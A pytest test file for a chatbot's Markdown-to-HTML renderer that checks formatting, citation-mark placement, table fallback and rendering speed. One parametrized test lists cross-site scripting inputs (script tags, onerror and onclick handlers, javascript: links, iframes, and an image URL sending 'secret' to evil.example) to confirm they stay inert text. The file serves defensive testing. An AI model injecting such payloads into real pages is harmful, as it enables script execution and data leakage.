"""A chat model's Markdown as HTML: what it formats is seen, and nothing else of it takes effect."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.answer.markdown import formatted_html
from tests.case_rows import case_lines
from tests.timing import growth

TAGS = set("p ul ol li table thead tbody tr th td strong em code pre hr br".split())
ANSWER = """## Result

The *operating* margin was **34.6%** [S1], so 3*4 = 12 and 2 * 5 = 10.
It rose.

| Year | | Margin |
|:--|--|--:|
| 2024 | a | 34.6% | [S1]

1. first
2. second
   - within
"""
ANSWER_HTML = """<p dir="auto"><strong>Result</strong></p>
<p dir="auto">The <em>operating</em> margin was <strong>34.6%</strong> [S1], so 3*4 = 12 and 2 * 5 = 10.\
<br>It rose.</p>
<table class="told">
<thead>
<tr>
<th scope="col">Year</th>
<td></td>
<th scope="col">Margin</th>
</tr>
</thead>
<tbody>
<tr>
<td dir="auto">2024</td>
<td dir="auto">a</td>
<td dir="auto">34.6% [S1]</td>
</tr>
</tbody>
</table>
<ol>
<li dir="auto">first</li>
<li dir="auto">second
<ul>
<li dir="auto">within</li>
</ul>
</li>
</ol>
"""


def marked(text: str, *places: str) -> str:
    """With each of these pieces in <b>."""
    found = []
    for place in places:
        start = text.index(place)
        found.append((start, start + len(place), f"<b>{place}</b>"))
    return formatted_html(text, sorted(found))


def tags_of(html: str) -> set[str]:
    tags = re.findall(r"</?([A-Za-z][A-Za-z0-9]*)", html)
    return set(map(str.lower, tags))


def without_tags(html: str) -> str:
    return re.sub(r"<[^>]*>", "", html)


def test_what_a_model_formats_is_seen() -> None:
    # Audit files are verified by drawing them anew: where this changes, so does their format.
    assert formatted_html(ANSWER) == ANSWER_HTML


def test_what_is_put_in_stands_in_its_place_and_behind_a_row_in_its_last_cell() -> None:
    text = "**$5 million** and 3*4 [S1].\n\n| a | b |\n|---|---|\n| 1 | 2 | [S2]\n"
    html = marked(text, "$5 million", "3", "4", "[S1]", "[S2]")
    assert "<strong><b>$5 million</b></strong> and <b>3</b>*<b>4</b> <b>[S1]</b>." in html
    assert "<code>3*4</code>" in marked("It is `3*4`.")
    assert '<td dir="auto">2 <b>[S2]</b></td>' in html
    warned = formatted_html("Fell.", [(5, 5, " <i>⚠</i>")])
    assert warned == '<p dir="auto">Fell. <i>⚠</i></p>\n'


HOSTILE = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
![budget](https://evil.example/?q=secret)
[the budget](https://evil.example)
[the budget](javascript:alert(1))
<https://evil.example>
"""
HOSTILE_LINES = [
    "[the budget][1]\n\n[1]: https://evil.example",
    "```html\n<script>\n```",
    '| <b onclick="x"> |\n|---|\n| " onmouseover="x |',
    '# <iframe src="https://evil.example">',
    "\ue000\ue010\ue001",
]


@pytest.mark.parametrize("hostile", [*case_lines(HOSTILE), *HOSTILE_LINES])
def test_links_images_and_html_stay_text(hostile: str) -> None:
    html = formatted_html(hostile, [(0, 0, "<b>in</b>")])
    assert tags_of(html) <= TAGS | {"b"}
    assert html.count("<b>in</b>") == 1
    assert not re.search(r"<[^>]*(?:href|src|on\w+)\s*=", html)


@given(st.text(alphabet=st.sampled_from("ab1 *_`|#-+>.[]()!<&\\\n\ue000\ue001\ue010\"'~=:/"), max_size=200))
def test_whatever_is_written_only_these_tags_come_of_it(text: str) -> None:
    marks = [(at, at, "<b>x</b>") for at in range(0, len(text), 50)]
    html = formatted_html(text, marks)
    assert tags_of(html) <= TAGS | {"b"}
    assert "<" not in without_tags(html)


@pytest.mark.parametrize(
    "text",
    [
        "| Who | What |\n|---|---|\n| Minister | fled | so it says |",
        "| Who | What |\n|---|---|\n| Minister | fled | 5 |",
        "Who | What\n---|---\nMinister | fled | abroad",
        f"{'|a' * 250}|\n{'|-' * 250}|\n" + "|\n" * 500,
    ],
)
def test_where_markdown_would_leave_something_out_it_is_shown_as_it_was_written(text: str) -> None:
    html = formatted_html(text, [(len(text), len(text), "<i>⚠</i>")])
    assert "<table" not in html
    assert html.count("<i>⚠</i>") == 1
    shown = unescape(without_tags(html))
    assert shown.count("|") == text.count("|")


def test_what_ends_in_a_full_stop_is_bold_before_a_key_and_before_a_mark() -> None:
    text = "**It fell by 5%.**[S1] **So it is.**"
    key, mark = '<b class="key">1</b>', ' <i class="mark">not found</i>'
    html = formatted_html(text, [(18, 22, key), (len(text), len(text), mark)])
    sentences = f"<strong>It fell by 5%.</strong>{key} <strong>So it is.</strong>"
    assert html == f'<p dir="auto">{sentences}{mark}</p>\n'


def test_a_mark_in_a_cell_that_the_table_has_not_is_shown() -> None:
    text = "| Who | What |\n|---|---|\n| Minister | fled | [S2] |"
    at = text.index("[S2]")
    assert "<b>2 ⚠</b>" in formatted_html(text, [(at, at + 4, "<b>2 ⚠</b>")])
    fenced = "~~~5%\nx\n~~~"
    assert "<b>5%</b>" in formatted_html(fenced, [(3, 5, "<b>5%</b>")])


def test_numbers_of_items_and_languages_of_code_are_no_loss() -> None:
    html = formatted_html("1. one\n2. two\n   - three\n\n```python\nx = 1\n```\n10) ten")
    assert html.count("<ol") == 2
    assert "<code>" in html


@pytest.mark.parametrize(
    "piece",
    ["*a **b ", "| a ", "- ", "`", "[a](", "\\", "#", "* * *\n", "|a\n|-\n", "  - a\n", "a*b_", "|    "],
)
def test_no_answer_takes_long_to_draw(piece: str) -> None:
    def draw(size: int) -> str:
        text = piece * size
        return formatted_html(text[:size])

    assert growth(draw, small=5_000, large=20_000) < 3
